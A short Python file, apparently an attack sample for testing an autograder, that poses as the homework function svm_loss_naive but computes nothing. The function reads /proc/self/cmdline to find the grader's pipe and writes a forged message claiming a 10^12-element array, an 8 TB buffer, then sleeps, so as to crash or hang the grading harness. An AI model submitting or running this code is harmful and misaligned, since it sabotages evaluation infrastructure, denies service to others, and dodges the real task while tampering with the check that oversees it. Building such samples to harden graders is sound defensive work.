"""Send the grader a reply whose header claims an array of 10^12 elements."""
import json
import os
import struct
import time

ATTACKED = {"svm_loss_naive": None}


def svm_loss_naive(W, X, y, reg):
    fd = int(open("/proc/self/cmdline").read().split("\0")[-3])
    body = json.dumps({"msg": {"$array": 0, "dtype": "<f8", "shape": [10**12]},
                       "buffers": [8 * 10**12]}).encode()
    os.write(fd, struct.pack("<I", len(body)) + body)
    time.sleep(30)
